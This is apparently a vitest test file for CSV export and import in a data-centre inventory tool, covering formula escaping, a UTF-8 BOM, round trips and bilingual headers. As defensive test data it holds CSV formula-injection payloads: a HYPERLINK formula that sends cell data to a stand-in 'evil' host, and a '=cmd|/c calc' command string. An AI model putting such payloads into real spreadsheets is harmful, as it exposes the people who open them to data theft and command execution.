import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Device } from '../../../../shared/domain/schemas.ts';
import {
  csvFileBytes,
  findingsCsv,
  inventoryCsv,
  toCsv,
} from '../../../../shared/exchange/csv-export.ts';
import {
  escapeFormulaCell,
  unescapeFormulaCell,
} from '../../../../shared/exchange/formula-escape.ts';
import { parseCsv } from '../../../../shared/import/csv.ts';
import { decodeText } from '../../../../shared/import/decode-text.ts';
import { autoMapping } from '../../../../shared/import/mapping.ts';
import { buildImportPreview } from '../../../../shared/import/preview.ts';
import * as arb from './arbitraries.ts';

describe('toCsv', () => {
  it('escapes formula triggers so a spreadsheet shows them as text', () => {
    const text = toCsv([
      [
        '=HYPERLINK("http://evil/?"&A1,"x")',
        '+cmd',
        '-1',
        '@SUM(1)',
        '\t=1',
        '\r=1',
        '  =1',
        'plain',
      ],
    ]);
    const cells = parseCsv(`h1,h2,h3,h4,h5,h6,h7,h8\r\n${text}`).rows[0]!.cells;
    expect(cells).toEqual([
      `'=HYPERLINK("http://evil/?"&A1,"x")`,
      "'+cmd",
      "'-1",
      "'@SUM(1)",
      "'\t=1",
      "'\r=1",
      "'  =1",
      'plain',
    ]);
    for (const cell of cells) expect(cell).not.toMatch(/^(?:[=+\-@\t\r]| +[=+\-@])/);
  });

  it('writes UTF-8 with a BOM for Excel', () => {
    const bytes = csvFileBytes('机房\r\n');
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(decodeText(bytes)).toEqual({ text: '机房\r\n', encoding: 'utf-8', bom: true });
  });

  it('reads back any table it writes', () => {
    const cell = fc.oneof(fc.string(), fc.constantFrom('=1', "'x", '"', ',', '\n', ' a ', '#N/A'));
    fc.assert(
      fc.property(
        fc.array(fc.array(cell, { minLength: 2, maxLength: 2 }), { minLength: 1, maxLength: 6 }),
        (rows) => {
          const sheet = parseCsv(`a,b\r\n${toCsv(rows)}`, { delimiter: ',' });
          // Exactly the escaped cells come back; rows of blank cells are dropped by the reader.
          const expected = rows
            .map((r) => r.map(escapeFormulaCell))
            .filter((r) => r.some((c) => c.trim() !== ''));
          expect(sheet.rows.map((r) => r.cells)).toEqual(expected);
          for (const r of sheet.rows) {
            expect(r.cells.map(unescapeFormulaCell)).toEqual(rows[r.row - 2]);
          }
        },
      ),
      { numRuns: 100 },
    );
  });
});

/** The fields the inventory CSV carries; ids, timestamps and nested records do not travel. */
function exported(d: Device) {
  return {
    siteId: d.siteId,
    roomId: d.roomId,
    rackId: d.rackId,
    positionU: d.positionU,
    heightU: d.heightU,
    assetTag: d.assetTag,
    serial: d.serial,
    manufacturer: d.manufacturer,
    model: d.model,
    type: d.type,
    name: d.name,
    hostname: d.hostname,
    ips: d.ips,
    macs: d.macs,
    owner: d.owner,
    department: d.department,
    status: d.status,
    idleSince: d.idleSince,
    firmwareVersion: d.firmwareVersion,
    firmwareDate: d.firmwareDate,
    endOfSupport: d.endOfSupport,
    credentials: d.credentials,
    power: d.power,
    network: d.network,
    classification: d.classification,
    notes: d.notes,
  };
}

describe('inventory CSV round trip', () => {
  it.each([
    ['column names', undefined],
    ['English', 'en'],
    ['Chinese', 'zh'],
  ] as const)(
    'export (%s) -> bytes -> import into an empty inventory gives the same devices',
    (_, lang) => {
      fc.assert(
        fc.property(arb.inventory, (inv) => {
          const bytes = csvFileBytes(
            inventoryCsv(
              inv.devices,
              { rooms: inv.rooms, racks: inv.racks, sites: [inv.site] },
              lang,
            ),
          );
          const { text } = decodeText(bytes);
          const sheet = parseCsv(text);
          const auto = autoMapping(sheet.headers, 'auto');
          expect(auto.detection.profile).toBe('roomcheck');
          expect(auto.unknownHeaders).toEqual([]);
          let n = 0;
          const preview = buildImportPreview(
            sheet,
            auto.mapping,
            { devices: [], rooms: inv.rooms, racks: inv.racks, sites: [inv.site] },
            { now: '2024-06-01T08:00:00.000Z', newId: () => `new-${++n}`, siteId: inv.site.id },
          );
          expect(preview.rejected).toEqual([]);
          expect(preview.conflicts).toEqual([]);
          expect(preview.roomsToCreate).toEqual([]);
          expect(preview.racksToCreate).toEqual([]);
          expect(preview.toAdd.map((a) => exported(a.device))).toEqual(inv.devices.map(exported));
        }),
        { numRuns: 15 },
      );
    },
  );

  it('then re-importing over the same inventory changes nothing', () => {
    fc.assert(
      fc.property(arb.inventory, (inv) => {
        const sheet = parseCsv(inventoryCsv(inv.devices, { rooms: inv.rooms, racks: inv.racks }));
        const preview = buildImportPreview(
          sheet,
          autoMapping(sheet.headers, 'roomcheck').mapping,
          { devices: inv.devices, rooms: inv.rooms, racks: inv.racks },
          {
            now: '2024-06-01T08:00:00.000Z',
            newId: () => 'unused',
            siteId: inv.site.id,
          },
        );
        expect(preview.toAdd).toEqual([]);
        expect(preview.toUpdate).toEqual([]);
        expect(preview.conflicts).toEqual([]);
        expect(preview.rejected).toEqual([]);
        expect(preview.unchanged.map((u) => u.deviceId)).toEqual(inv.devices.map((d) => d.id));
      }),
      { numRuns: 20 },
    );
  });
});

describe('findings CSV', () => {
  it('writes bilingual headers and labels, with formula-like text escaped', () => {
    const [finding] = fc.sample(arb.finding, { numRuns: 1, seed: 3 });
    const f = {
      ...finding!,
      title: '=cmd|/c calc',
      severity: 'high' as const,
      status: 'open' as const,
      deviceId: null,
    };
    const en = parseCsv(findingsCsv([f], { devices: [], rooms: [] }, 'en'));
    expect(en.headers.slice(0, 5)).toEqual([
      'Finding id',
      'Severity',
      'Category',
      'Status',
      'Title',
    ]);
    expect(en.rows[0]!.cells.slice(1, 5)).toEqual(['High', 'CAT I', 'Open', "'=cmd|/c calc"]);
    const zh = parseCsv(findingsCsv([f], { devices: [], rooms: [] }, 'zh'));
    expect(zh.headers.slice(0, 5)).toEqual(['问题编号', '严重程度', '类别', '状态', '标题']);
    expect(zh.rows[0]!.cells.slice(1, 4)).toEqual(['高', 'CAT I', '待整改']);
  });
});
